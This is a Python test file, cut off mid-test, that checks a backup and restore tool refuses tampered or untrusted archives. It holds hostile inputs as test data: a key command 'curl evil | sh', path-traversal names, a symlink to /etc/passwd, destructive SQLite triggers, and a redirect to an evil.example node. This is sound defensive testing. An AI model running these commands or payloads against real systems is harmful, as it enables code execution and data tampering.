"""Backups: complete while in use, and restored whole or not at all."""

from __future__ import annotations

import errno
import hashlib
import io
import json
import os
import signal
import sqlite3
import stat
import subprocess
import sys
import tarfile
import threading
from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path
from typing import IO, Any, cast

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.ledger.chains import ALICE, BOB, create
from tests.plugins.tools import require_tool
from twincli import config
from twincli.book.store import Book
from twincli.client import profiles
from twincli.content.store import Blobs
from twincli.crypto import canonical, sealing
from twincli.crypto.ed25519 import KeyPair
from twincli.errors import ConfigError, ConflictError, InvalidError, TwinError
from twincli.keystore.store import KeyStore
from twincli.ledger import Ledger
from twincli.services.home import archive, backup, restore

NOW_MS = 1_900_000_000_000
CREATED = "2024-01-20T09:00:00Z"


@pytest.fixture
def source(tmp_path: Path) -> Path:
    """A home with two keys, one of them removed, a party, a named asset and settings."""
    home = tmp_path / "source"
    keys = KeyStore(str(home / "keys"))
    keys.create("Alice", ALICE, secret_source=None, created=CREATED)
    keys.create("bob", BOB, secret_source=None, created=CREATED)
    keys.remove("bob")
    with Ledger.open(home / "ledger") as ledger:
        first = create(data={"name": "red car"})
        ledger.submit(first)
        ledger.append_many(ALICE, first["id"], ({"n": n} for n in range(50)))
        ledger.search_assets("car")
        ledger_id = ledger.id
    with Book(str(home / "book.db")) as book:
        book.set_asset(ledger_id, "car", first["id"])
        book.set_party("carol", "did:web:carol.example")
    (home / "config.json").write_text('{"key": "alice"}\n')
    return home


def make(home: Path, file: Path, **more: Any) -> Any:
    return backup.create(str(home), str(home / "config.json"), str(file), now_ms=NOW_MS, **more)


def bring_back(file: Path, home: Path, **more: Any) -> Any:
    with file.open("rb") as stream:
        return restore.restore(stream, file.name, str(home), str(home / "config.json"), **more)


def restore_bytes(data: bytes, home: Path) -> Any:
    place = str(home / "config.json")
    return restore.restore(io.BytesIO(data), "the file", str(home), place)


def names_in(home: Path) -> set[str]:
    """Return the files of a home, but for what SQLite has beside its own."""
    found = {str(path.relative_to(home)) for path in home.rglob("*") if path.is_file()}
    return {name for name in found if not name.endswith(("-wal", "-shm"))}


@pytest.fixture
def packed(source: Path, tmp_path: Path) -> Path:
    file = tmp_path / "home.tar"
    make(source, file)
    return file


# --- There and back ------------------------------------------------------------------------------


def test_a_home_comes_back_whole(source: Path, tmp_path: Path) -> None:
    file, home = tmp_path / "home.tar", tmp_path / "deep" / "new"
    made = make(source, file)
    data = file.read_bytes()
    with Ledger.open(source / "ledger", create=False) as ledger:
        old_key, ledger_id, tip = ledger.public_key, ledger.id, ledger.tip()
    assert made == {
        "schema": "twin.backup/1",
        "file": str(file),
        "created": "2030-03-17T17:46:40.000Z",
        "ledger": ledger_id,
        "height": tip.height,
        "transactions": 51,
        "keys": 1,
        "names": 2,
        "size": len(data),
        "sha256": hashlib.sha256(data).hexdigest(),
        "left_out": ["ledger/index.db", "ledger/ledger.key", "ledger/ledger.mark"],
        "warnings": [made["warnings"][0]],
    }
    assert "the secret of alice, removed/bob.1 without a passphrase" in made["warnings"][0]
    assert stat.S_IMODE(file.stat().st_mode) == 0o600

    done = bring_back(file, home)
    with Ledger.open(home / "ledger", create=False) as ledger:
        assert ledger.id == ledger_id
        assert ledger.tip() == tip
        assert ledger.former_keys == [old_key]
        assert ledger.public_key != old_key
        assert ledger.public_key in (home / "ledger" / "ledger.key").read_text()
        assert ledger.verify().problems == []
        assert done["ledger_key"] == ledger.public_key
        ledger.append_many(ALICE, next(ledger.asset_ids()), [{"n": 51}])
    same = {name: made[name] for name in ("created", "ledger", "height", "keys", "names", "sha256")}
    assert same.items() <= done.items()
    assert (done["restored"], done["home"], done["warnings"]) == (True, str(home), [])
    for name in ("config.json", "keys/alice.json", "keys/removed/bob.1.json"):
        assert (home / name).read_bytes() == (source / name).read_bytes()
    with Book(str(home / "book.db")) as book:
        assert book.names_of_party("did:web:carol.example") == ["carol"]
        assert len(book.list_assets(ledger_id)) == 1
    assert names_in(home) == names_in(source) - {"ledger/index.db"}
    for path in [home, *home.rglob("*")]:
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path
    assert sorted(os.listdir(home.parent)) == ["new"]


def test_a_second_restore_remembers_both_keys(source: Path, packed: Path, tmp_path: Path) -> None:
    bring_back(packed, tmp_path / "two")
    make(tmp_path / "two", tmp_path / "two.tar")
    bring_back(tmp_path / "two.tar", tmp_path / "three")
    keys = []
    for home in (source, tmp_path / "two", tmp_path / "three"):
        with Ledger.open(home / "ledger", create=False) as ledger:
            keys.append(ledger.public_key)
            assert ledger.former_keys == keys[:-1]
    assert len(set(keys)) == 3


def test_the_layout_is_that_of_a_home() -> None:
    paths = config.paths("/h")
    assert paths.settings == f"/h/{archive.SETTINGS}"
    assert paths.book == f"/h/{archive.BOOK}"
    assert paths.ledger == f"/h/{os.path.dirname(archive.LEDGER)}"
    assert paths.keys == f"/h/{archive.KEYS}"
    assert paths.content == f"/h/{archive.CONTENT}"
    cid = "bafkreicu645lpcao64d4u3muizlcjylgpw4roybq33mq6saubeosq5e47i"
    assert Blobs(paths.content).path(cid) == f"/h/content/7i/{cid}"
    assert archive.is_content(f"content/7i/{cid}")
    for wrong in (
        f"content/7j/{cid}",
        f"content/{cid}",
        "content/7i/../7i",
        f"content/7i/{cid}/7i",
    ):
        assert not archive.is_content(wrong)


def test_the_file_is_a_tar_archive_for_others_too(packed: Path, tmp_path: Path) -> None:
    tar = require_tool("tar")
    (tmp_path / "out").mkdir()
    subprocess.run([tar, "-xf", str(packed), "-C", str(tmp_path / "out")], check=True)
    manifest = json.loads((tmp_path / "out" / "manifest.json").read_text())
    summed = "".join(f"{entry['sha256']}  {entry['name']}\n" for entry in manifest["files"])
    subprocess.run(
        [require_tool("sha256sum"), "--check", "--strict", "-"],
        input=summed.encode(),
        cwd=tmp_path / "out",
        check=True,
        capture_output=True,
    )
    assert names_in(tmp_path / "out") == {entry["name"] for entry in manifest["files"]} | {
        "manifest.json"
    }
    with tarfile.open(packed) as opened:
        assert opened.getnames()[0] == "manifest.json"


def test_an_empty_home_and_one_without_a_ledger(tmp_path: Path) -> None:
    home = tmp_path / "empty"
    home.mkdir()
    made = make(home, tmp_path / "empty.tar")
    assert (made["ledger"], made["height"], made["transactions"]) == (None, None, 0)
    assert (made["keys"], made["names"], made["warnings"]) == (0, 0, [])
    done = bring_back(tmp_path / "empty.tar", tmp_path / "back")
    assert (done["ledger"], done["ledger_key"]) == (None, None)
    assert os.listdir(tmp_path / "back") == []


def test_a_dry_run_keeps_nothing(source: Path, packed: Path, tmp_path: Path) -> None:
    before = names_in(tmp_path)
    planned = make(source, tmp_path / "other.tar", dry_run=True)
    assert planned["size"] == packed.stat().st_size
    for home in (source, tmp_path / "absent" / "new"):
        done = bring_back(packed, home, dry_run=True)
        assert (done["restored"], done["ledger_key"], done["transactions"]) == (False, None, 51)
    assert names_in(tmp_path) == before
    assert not (tmp_path / "absent").exists()


def test_a_key_that_lives_elsewhere_is_named(source: Path, tmp_path: Path) -> None:
    path = source / "keys" / "alice.json"
    document = json.loads(path.read_text())
    del document["seed"], document["mnemonic"]
    chip = {**document, "name": "chip", "provider": "pkcs11", "rule": "external", "settings": {}}
    (source / "keys" / "chip.json").write_text(json.dumps(chip))
    (source / "keys" / "chip.json").chmod(0o600)
    made = make(source, tmp_path / "a.tar")
    assert made["keys"] == 2
    assert "the secret of chip is not in the home" in made["warnings"][1]
    assert bring_back(tmp_path / "a.tar", tmp_path / "back")["warnings"] == []


def test_what_a_restored_key_runs_is_said(source: Path, tmp_path: Path) -> None:
    path = source / "keys" / "alice.json"
    document = json.loads(path.read_text())
    del document["seed"], document["mnemonic"]
    tag = {**document, "name": "tag", "provider": "command", "rule": "external"}
    tag["settings"] = {"command": ["sh", "-c", "curl evil | sh"]}
    (source / "keys" / "tag.json").write_text(json.dumps(tag))
    (source / "keys" / "tag.json").chmod(0o600)
    make(source, tmp_path / "a.tar")
    (warning,) = bring_back(tmp_path / "a.tar", tmp_path / "back")["warnings"]
    assert "the key tag runs" in warning
    assert "sh -c curl evil | sh" in warning


def test_a_key_called_as_the_directory_of_removed_ones_is_counted(
    source: Path, tmp_path: Path
) -> None:
    before = make(source, tmp_path / "a.tar")["keys"]
    key = KeyPair.from_seed(b"r" * 32)
    store = KeyStore(str(source / "keys"))
    store.create("removed-car", key, secret_source=None, created="2026-01-01T00:00:00Z")
    assert make(source, tmp_path / "b.tar")["keys"] == before + 1


def test_settings_that_live_elsewhere(source: Path, packed: Path, tmp_path: Path) -> None:
    place = tmp_path / "etc" / "twincli" / "config.json"

    def again(name: str) -> Any:
        with packed.open("rb") as stream:
            return restore.restore(stream, "x", str(tmp_path / name), str(place))

    again("one")
    assert place.read_bytes() == (source / "config.json").read_bytes()
    assert not (tmp_path / "one" / "config.json").exists()
    again("two")
    place.write_text('{"key": "bob"}')
    with pytest.raises(ConflictError) as caught:
        again("three")
    assert caught.value.code == "exists"
    assert not (tmp_path / "three").exists()
    assert place.read_text() == '{"key": "bob"}'
    made = backup.create(
        str(tmp_path / "one"), str(place), str(tmp_path / "b.tar"), now_ms=NOW_MS, dry_run=True
    )
    assert "config.json" not in made["left_out"]


def test_it_says_how_far_it_is(source: Path, tmp_path: Path) -> None:
    Blobs(str(source / "content")).put(io.BytesIO(bytes(3 << 20)))
    told: list[tuple[int, int]] = []
    made = make(source, tmp_path / "b.tar", progress=lambda done, total: told.append((done, total)))
    assert len(told) > 8
    assert told == sorted(told)
    done, total = told[-1]
    assert done == total >= made["size"] + (3 << 20)


# --- In use --------------------------------------------------------------------------------------

WRITE = """
import sys
from tests.ledger.chains import ALICE, create
from twincli.book.store import Book
from twincli.crypto.ed25519 import KeyPair
from twincli.keystore.store import KeyStore
from twincli.ledger import Ledger
home, number = sys.argv[1], int(sys.argv[2])
keys = KeyStore(home + "/keys")
with Ledger.open(home + "/ledger") as ledger, Book(home + "/book.db") as book:
    print("ready", flush=True)
    for count in range(10**6):
        key = KeyPair.from_seed(number.to_bytes(16, "big") + count.to_bytes(16, "big"))
        name = f"w{number}-{count}"
        keys.create(name, key, secret_source=None, created="2024-01-20T09:00:00Z")
        tx = create(count, signer=key)
        book.reserve(ledger.id, name, tx["id"])
        ledger.submit(tx)
        book.confirm(ledger.id, name, tx["id"])
        print(count, flush=True)
"""


@pytest.fixture
def writers(source: Path) -> Iterator[list[subprocess.Popen[str]]]:
    """Two processes that make a key, name a thing and write it, again and again."""
    running = [
        subprocess.Popen(
            [sys.executable, "-c", WRITE, str(source), str(number)],
            stdout=subprocess.PIPE,
            text=True,
        )
        for number in (1, 2)
    ]
    for writer in running:
        assert writer.stdout is not None
        assert writer.stdout.readline() == "ready\n"
    yield running
    for writer in running:
        writer.kill()
        writer.communicate()


def test_complete_to_one_moment_while_others_write(
    source: Path, writers: list[subprocess.Popen[str]], tmp_path: Path
) -> None:
    transactions = [51]
    for number in range(6):
        for writer in writers:  # both get on between two backups
            assert writer.stdout is not None
            writer.stdout.readline()
        home = tmp_path / f"back{number}"
        transactions.append(make(source, tmp_path / f"{number}.tar")["transactions"])
        bring_back(tmp_path / f"{number}.tar", home)  # verifies every transaction
        owned = KeyStore(str(home / "keys")).scan()[0]
        with Ledger.open(home / "ledger", create=False) as ledger:
            names = Book(str(home / "book.db"))
            for name, asset_id, reserved in names.list_assets(ledger.id):
                assert reserved or ledger.get(asset_id), f"{name} names what is not there"
            names.close()
            keys = {info.public_key for info in owned}
            for asset_id in ledger.asset_ids():
                tx = ledger.get(asset_id)
                assert tx is not None
                assert tx["outputs"][0]["public_keys"][0] in keys, "a thing without its key"
    assert all(writer.poll() is None for writer in writers)
    assert sorted(set(transactions)) == transactions
    assert not list(tmp_path.glob(".*")), "no copies stay behind"


def test_a_key_under_another_name_is_never_missed(source: Path, tmp_path: Path) -> None:
    keys = KeyStore(str(source / "keys"))
    done = threading.Event()

    def rename() -> None:
        while not done.is_set():
            keys.rename("alice", "zoe")
            keys.rename("zoe", "alice")

    thread = threading.Thread(target=rename)
    thread.start()
    try:
        for number in range(20):
            made = make(source, tmp_path / f"{number}.tar")
            assert made["keys"] == 1
    finally:
        done.set()
        thread.join()


def test_keys_that_do_not_stop_changing(
    source: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def gone(_: str) -> bytes:
        raise FileNotFoundError

    monkeypatch.setattr(backup, "read_private", gone)
    with pytest.raises(TwinError) as caught:
        make(source, tmp_path / "a.tar")
    assert (caught.value.code, caught.value.retryable) == ("busy", True)
    assert not (tmp_path / "a.tar").exists()


def test_a_book_that_is_being_written_is_not_waited_for(source: Path, tmp_path: Path) -> None:
    before = make(source, tmp_path / "a.tar")
    with closing(sqlite3.connect(source / "book.db", isolation_level=None)) as other:
        other.execute("BEGIN EXCLUSIVE")
        other.execute("DELETE FROM asset")
        assert make(source, tmp_path / "b.tar")["names"] == before["names"]


# --- What cannot be backed up --------------------------------------------------------------------


def _spoil_key(home: Path) -> None:
    (home / "keys" / "alice.json").write_text("{}")


def _open_key(home: Path) -> None:
    (home / "keys" / "alice.json").chmod(0o644)


def _spoil_removed(home: Path) -> None:
    (home / "keys" / "removed" / "bob.1.json").chmod(0o644)


def _spoil_transaction(home: Path) -> None:
    with closing(sqlite3.connect(home / "ledger" / "ledger.db")) as connection:
        connection.execute("UPDATE tx SET body = replace(body, 'red', 'rad') WHERE seq = 1")
        connection.commit()


def _spoil_ledger(home: Path) -> None:
    (home / "ledger" / "ledger.db-wal").unlink(missing_ok=True)
    (home / "ledger" / "ledger.db").write_text("a letter\n" * 2000)


def _spoil_book(home: Path) -> None:
    (home / "book.db-wal").unlink(missing_ok=True)
    (home / "book.db").write_text("a letter\n" * 2000)


@pytest.mark.parametrize(
    ("spoil", "code"),
    [
        (_spoil_key, "damaged_key"),
        (_open_key, "insecure_permissions"),
        (_spoil_removed, "insecure_permissions"),
        (_spoil_transaction, "damaged_ledger"),
        (_spoil_ledger, "foreign_file"),
        (_spoil_book, "foreign_file"),
    ],
)
def test_what_is_damaged_is_said_and_nothing_is_left(
    spoil: Callable[[Path], None], code: str, source: Path, tmp_path: Path
) -> None:
    spoil(source)
    with pytest.raises(ConfigError) as caught:
        make(source, tmp_path / "a.tar")
    assert caught.value.code == code
    assert str(source) in caught.value.message
    assert ".new-" not in caught.value.message
    assert os.listdir(tmp_path) == ["source"]


def test_a_backup_is_never_written_over(source: Path, packed: Path) -> None:
    before = packed.read_bytes()
    with pytest.raises(ConflictError) as caught:
        make(source, packed)
    assert caught.value.code == "exists"
    assert packed.read_bytes() == before


def test_a_disk_that_fills_up(
    source: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_: object) -> int:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "write", full)
    with pytest.raises(ConfigError) as caught:
        make(source, tmp_path / "a.tar")
    assert caught.value.code == "cannot_write"
    assert os.listdir(tmp_path) == ["source"]
    with pytest.raises(ConfigError) as caught:
        make(source, tmp_path / "nowhere" / "a.tar")
    assert caught.value.code == "cannot_write"
    assert str(tmp_path / "nowhere" / "a.tar") in caught.value.message


@pytest.mark.parametrize(
    "text", ["{", '{"a": 1, "a": 2}', " " * 70_000], ids=["half", "twice", "long"]
)
def test_settings_that_a_restore_would_refuse(text: str, source: Path, tmp_path: Path) -> None:
    (source / "config.json").write_text(text)
    with pytest.raises(ConfigError) as caught:
        make(source, tmp_path / "a.tar")
    assert caught.value.code == "config"
    (source / "config.json").unlink()
    (source / "config.json").mkdir()
    with pytest.raises(ConfigError) as caught:
        make(source, tmp_path / "a.tar")
    assert caught.value.code == "cannot_read"


# --- What cannot be restored ---------------------------------------------------------------------


def test_only_an_empty_home_takes_a_backup(
    packed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / "diary").write_text("dear")
    with pytest.raises(ConflictError) as caught:
        bring_back(packed, home)
    assert caught.value.code == "exists"
    assert "--home" in str(caught.value.hint)
    (home / "diary").unlink()
    with monkeypatch.context() as patch:
        patch.setattr(os.path, "ismount", lambda _: True)
        with pytest.raises(ConfigError) as refused:
            bring_back(packed, home)
        assert refused.value.code == "mount_point"
    linked = tmp_path / "link"
    linked.symlink_to(home)
    bring_back(packed, linked)
    assert (home / "keys" / "alice.json").exists()
    assert linked.is_symlink()
    (tmp_path / "file").write_text("")
    with pytest.raises(ConfigError) as refused:
        bring_back(packed, tmp_path / "file")
    assert refused.value.code == "cannot_read"


def test_a_home_that_appears_meanwhile_is_kept(
    packed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    renew = restore._renew_ledger_key

    def slow(place: str) -> str | None:
        home.mkdir()
        (home / "diary").write_text("dear")
        return renew(place)

    monkeypatch.setattr(restore, "_renew_ledger_key", slow)
    with pytest.raises(ConflictError):
        bring_back(packed, home)
    assert names_in(home) == {"diary"}
    assert not list(tmp_path.glob("home.restore-*"))


@pytest.mark.parametrize(
    "data",
    [b"", b"x", b"a letter\n" * 2000, bytes(4096)],
    ids=["empty", "a byte", "text", "zeros"],
)
def test_what_is_no_backup(data: bytes, tmp_path: Path) -> None:
    with pytest.raises(InvalidError) as caught:
        restore_bytes(data, tmp_path / "home")
    assert caught.value.code == "not_a_backup"
    assert os.listdir(tmp_path) == []


def test_a_stream_that_cannot_be_read(tmp_path: Path) -> None:
    class Broken:
        def read(self, _: int) -> bytes:
            raise OSError(errno.EIO, "Input/output error")

    stream = cast("IO[bytes]", Broken())
    with pytest.raises(ConfigError) as caught:
        restore.restore(stream, "x", str(tmp_path / "h"), str(tmp_path / "c"))
    assert caught.value.code == "cannot_read"


@pytest.mark.no_cover
def test_a_backup_that_ends_early_or_late(packed: Path, tmp_path: Path) -> None:
    data = packed.read_bytes()
    for size in range(1024, len(data), 9 * 512):
        with pytest.raises(InvalidError):
            restore_bytes(data[:size], tmp_path / "home")
    for changed in (data[:-512], data[:-1], data + b"\0", data + data):
        with pytest.raises(InvalidError) as caught:
            restore_bytes(changed, tmp_path / "home")
        assert caught.value.code == "damaged_backup"
    assert not (tmp_path / "home").exists()
    assert not list(tmp_path.glob("home.restore-*"))


@pytest.fixture
def small(tmp_path: Path) -> bytes:
    """A backup of two keys and nothing else."""
    keys = KeyStore(str(tmp_path / "small" / "keys"))
    keys.create("alice", ALICE, secret_source=None, created=CREATED)
    keys.create("bob", BOB, secret_source=None, created=CREATED)
    make(tmp_path / "small", tmp_path / "small.tar")
    return (tmp_path / "small.tar").read_bytes()


@given(st.data())
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
def test_an_altered_byte_never_restores_something_else(
    small: bytes, tmp_path: Path, data: st.DataObject
) -> None:
    at = data.draw(st.integers(0, len(small) - 1))
    changed = bytearray(small)
    changed[at] ^= 1 << data.draw(st.integers(0, 7))
    home = tmp_path / f"home{os.urandom(4).hex()}"
    try:
        restore_bytes(bytes(changed), home)
    except (InvalidError, ConfigError):
        assert not home.exists()
    else:  # a byte of a file's head that says nothing
        assert names_in(home) == {"keys/alice.json", "keys/bob.json"}
        for name in names_in(home):
            assert (home / name).read_bytes() == (tmp_path / "small" / name).read_bytes()
            (home / name).unlink()


def packed_by_hand(manifest: dict[str, Any], *members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    """Return an archive whose manifest has the right sum, as anybody can make one."""
    manifest = {**manifest, "sha256": archive.digest_of(manifest)}
    data = canonical.encode(manifest)
    whole = b""
    for info, content in ((member("manifest.json", data)), *members):
        whole += info.tobuf(tarfile.GNU_FORMAT) + content + bytes(-len(content) % 512)
    return whole + bytes(1024)


def member(name: str, content: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(content)
    return info, content


def listing(*entries: tuple[str, bytes], **more: Any) -> Any:
    found = [
        {"name": name, "size": len(content), "sha256": hashlib.sha256(content).hexdigest()}
        for name, content in entries
    ]
    base = {"schema": archive.SCHEMA, "created": CREATED, "ledger": None, "names": 0}
    return {**base, "files": found, **more}


@pytest.mark.parametrize(
    "name",
    [
        "../evil.json",
        "keys/../../evil.json",
        "keys/../evil.json",
        "/evil.json",
        "keys//evil.json",
        "keys/.json",
        "keys/..json",
        "keys/a\\..\\b.json",
        "keys/a.json\n",
        "keys/a/b.json",
        "ledger/ledger.key",
        "ledger/index.db",
        "other.txt",
        "",
        7,
    ],
)
def test_names_that_no_home_holds(name: Any, tmp_path: Path) -> None:
    manifest = listing(("x", b"evil"))
    manifest["files"][0]["name"] = name
    data = packed_by_hand(manifest, member(str(name), b"evil"))
    with pytest.raises(InvalidError) as caught:
        restore_bytes(data, tmp_path / "a" / "b" / "home")
    assert caught.value.code == "damaged_backup"
    assert names_in(tmp_path) == set()


@pytest.mark.parametrize(
    "manifest",
    [
        listing(("config.json", b"{}"), ("config.json", b"{}")),
        listing(files="none"),
        listing(files=[{"name": "config.json"}]),
        listing(files=[{"name": "config.json", "size": -1, "sha256": ""}]),
        listing(files=[{"name": "config.json", "size": True, "sha256": ""}]),
        listing(files=[{"name": "keys/a.json", "size": 1 << 40, "sha256": ""}]),
        listing(("config.json", b"{}"), created=5),
        listing(("config.json", b"{}"), names=None),
        listing(("config.json", b"{}"), names=3),
        listing(("config.json", b"{}"), ledger={"id": "x"}),
        listing(("ledger/ledger.db", b"")),
        listing(("config.json", b"not json")),
        listing(("keys/a.json", b"{}")),
        listing(("book.db", b"a letter\n" * 999)),
        listing(schema="twin.backup-manifest/x"),
        listing(schema="twin.backup/1"),
        listing(schema=None),
    ],
)
def test_manifests_that_are_none(manifest: dict[str, Any], tmp_path: Path) -> None:
    contents = {"config.json": b"{}", "keys/a.json": b"{}", "book.db": b"a letter\n" * 999}
    listed = manifest["files"] if isinstance(manifest["files"], list) else []
    members = [member(e["name"], contents.get(e["name"], b"")) for e in listed]
    if any(e.get("sha256") == hashlib.sha256(b"not json").hexdigest() for e in listed):
        members = [member("config.json", b"not json")]
    with pytest.raises((InvalidError, ConfigError)) as caught:
        restore_bytes(packed_by_hand(manifest, *members), tmp_path / "home")
    assert caught.value.code in {"damaged_backup", "newer_version"}
    assert names_in(tmp_path) == set()


def test_a_newer_format_is_named(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as caught:
        restore_bytes(packed_by_hand(listing(schema="twin.backup-manifest/2")), tmp_path / "home")
    assert caught.value.code == "newer_version"


def test_links_and_other_files_than_announced(tmp_path: Path) -> None:
    manifest = listing(("config.json", b"{}"))
    link = tarfile.TarInfo("config.json")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    for wrong in ((link, b""), member("book.db", b"{}"), member("config.json", b"{ }")):
        with pytest.raises(InvalidError) as caught:
            restore_bytes(packed_by_hand(manifest, wrong), tmp_path / "home")
        assert caught.value.code == "damaged_backup"
    assert names_in(tmp_path) == set()


def test_a_ledger_that_was_changed_before_the_manifest_was_made(
    source: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whoever can write a backup can give it the right sums; not the right signatures."""
    _spoil_transaction(source)
    with monkeypatch.context() as patch:
        patch.setattr(backup, "refuse_problems", lambda *_: None)
        make(source, tmp_path / "a.tar")
    with pytest.raises(InvalidError) as caught:
        bring_back(tmp_path / "a.tar", tmp_path / "home")
    assert caught.value.code == "damaged_backup"
    assert "ledger/ledger.db" in caught.value.message
    assert not (tmp_path / "home").exists()


@pytest.mark.parametrize(
    ("name", "what"),
    [
        ("book.db", "TRIGGER evil AFTER INSERT ON party BEGIN DELETE FROM party; END"),
        ("book.db", "VIEW evil AS SELECT 1"),
        ("ledger/ledger.db", "TRIGGER evil AFTER INSERT ON tx BEGIN DELETE FROM meta; END"),
        ("ledger/ledger.db", "VIEW evil AS SELECT 1"),
    ],
)
def test_what_would_run_in_a_database_is_not_restored(
    name: str, what: str, source: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whoever can write a backup can put a trigger into a database that is else in order."""
    with closing(sqlite3.connect(source / name)) as connection:
        connection.execute(f"CREATE {what}")
        connection.commit()
    with monkeypatch.context() as patch:
        patch.setattr(backup, "refuse_problems", lambda *_: None)
        patch.setattr(Book, "check", lambda _: 2)
        make(source, tmp_path / "a.tar")
    with pytest.raises(InvalidError) as caught:
        bring_back(tmp_path / "a.tar", tmp_path / "home")
    assert caught.value.code == "damaged_backup"
    assert name in caught.value.message
    assert not (tmp_path / "home").exists()


def test_another_ledger_than_the_manifest_says(
    source: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = backup.ledger_document
    with monkeypatch.context() as patch:
        patch.setattr(backup, "ledger_document", lambda ledger: {**real(ledger), "height": 1})
        make(source, tmp_path / "a.tar")
    with pytest.raises(InvalidError) as caught:
        bring_back(tmp_path / "a.tar", tmp_path / "home")
    assert caught.value.code == "damaged_backup"


@pytest.mark.usefixtures("small")
def test_a_plain_key_that_does_not_fit_is_found(tmp_path: Path) -> None:
    path = tmp_path / "small" / "keys" / "alice.json"
    document = json.loads(path.read_text())
    path.write_text(json.dumps({**document, "public_key": BOB.public_key}))
    make(tmp_path / "small", tmp_path / "b.tar")
    with pytest.raises(InvalidError) as caught:
        bring_back(tmp_path / "b.tar", tmp_path / "home")
    assert caught.value.code == "damaged_backup"


# --- Killed --------------------------------------------------------------------------------------

RESTORE = """
import os, sys
from twincli.services.home import restore
home, step = sys.argv[1], sys.argv[2]
def stop(*_, **__):
    print("there", flush=True)
    os.kill(os.getpid(), 9)
if step == "rename":
    os.rename = stop
elif step == "key":
    restore._renew_ledger_key = stop
elif step == "verify":
    restore._verify = stop
restore.restore(sys.stdin.buffer, "x", home, home + "/config.json")
print("whole")
"""


@pytest.mark.parametrize("step", ["half", "verify", "key", "rename", "none"])
def test_a_killed_restore_leaves_nothing_that_could_be_used(
    step: str, packed: Path, tmp_path: Path
) -> None:
    data, home = packed.read_bytes(), tmp_path / "home"
    home.mkdir()
    process = subprocess.Popen(
        [sys.executable, "-c", RESTORE, str(home), step],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
    )
    assert process.stdin is not None
    if step == "half":
        process.stdin.write(data[: len(data) // 2])
        process.stdin.flush()
        while not list(tmp_path.glob("home.restore-*/keys")):
            assert process.poll() is None
        process.kill()
        process.communicate()
    else:
        process.communicate(data)
    assert process.returncode == (0 if step == "none" else -signal.SIGKILL)
    if step == "none":
        assert (home / "ledger" / "ledger.key").exists()
        return
    assert not home.exists() or not os.listdir(home)
    again = bring_back(packed, home)
    assert len(again["warnings"]) == 1
    assert str(next(tmp_path.glob("home.restore-*"))) in again["warnings"][0]
    with Ledger.open(home / "ledger", create=False) as ledger:
        assert ledger.verify().problems == []


def test_a_large_ledger_is_never_in_memory(tmp_path: Path) -> None:
    """Peak memory of both ways, measured in a process of its own."""
    home = tmp_path / "home"
    with Ledger.open(home / "ledger") as ledger:
        first = create()
        ledger.submit(first)
        big = {"text": "x" * 30_000}
        ledger.append_many(ALICE, first["id"], (big for _ in range(2500)))
    size = (home / "ledger" / "ledger.db").stat().st_size
    assert size > 75_000_000
    code = f"""
import resource
from twincli.services.home import backup, restore
from twincli.ledger import audit
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
home, file = {str(home)!r}, {str(tmp_path / "a.tar")!r}
restore._verify = lambda *_: None  # bounded, and tested elsewhere
backup.create(home, home + "/c", file, now_ms=0)
with open(file, "rb") as stream:
    restore.restore(stream, "x", home + "2", home + "2/c")
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    grown = int(done.stdout) * (1 if sys.platform == "darwin" else 1024)
    assert grown < size // 2


# --- A backup of a stranger ----------------------------------------------------------------------


def test_what_a_backup_may_not_decide_is_announced(source: Path, tmp_path: Path) -> None:
    stored = {
        "key": "alice",
        "timeout": 5.0,
        "node": "https://evil.example",
        "passphrase_file": "/home/me/pass",
        "tls_cert": "/home/me/cert.pem",
    }
    (source / "config.json").write_text(json.dumps(stored))
    network = profiles.of_urls(["https://evil.example"])
    profiles.save(
        str(source / "nodes.json"),
        {"evil": network._replace(header_file="/home/me/.netrc"), "plain": network},
    )
    make(source, tmp_path / "b.tar")
    made = bring_back(tmp_path / "b.tar", tmp_path / "careful")
    kept = json.loads((tmp_path / "careful" / "config.json").read_bytes())
    assert kept == {"key": "alice", "timeout": 5.0}
    nodes = profiles.load(str(tmp_path / "careful" / "nodes.json"))
    assert nodes["evil"] == nodes["plain"] == network
    said = "\n".join(made["warnings"])
    for command in (
        "twin config set node https://evil.example",
        "twin config set passphrase_file /home/me/pass",
        "twin config set tls_cert /home/me/cert.pem",
        "--header-file /home/me/.netrc",
    ):
        assert command in said
    bring_back(tmp_path / "b.tar", tmp_path / "trusting", trusted=True)
    assert json.loads((tmp_path / "trusting" / "config.json").read_bytes()) == stored
    nodes = profiles.load(str(tmp_path / "trusting" / "nodes.json"))
    assert nodes["evil"].header_file == "/home/me/.netrc"


@pytest.mark.parametrize(
    ("table", "values"),
    [
        ("party", ("x", "\u202eecila", "did:key:z6Mk")),
        ("party", ("x", "a" * 65, "did:key:z6Mk")),
        ("party", ("x", "mallory", "not a key")),
        ("asset", ("ff" * 32, "x", "car\nboat", "ff" * 32, None)),
        ("asset", ("ff" * 32, "x", "car", "not an id", None)),
        ("asset", ("not an id", "x", "car", "ff" * 32, None)),
    ],
)
def test_names_that_could_not_have_been_given(
    source: Path, tmp_path: Path, table: str, values: tuple[str | None, ...]
) -> None:
    connection = sqlite3.connect(source / "book.db")
    marks = ", ".join("?" * len(values))
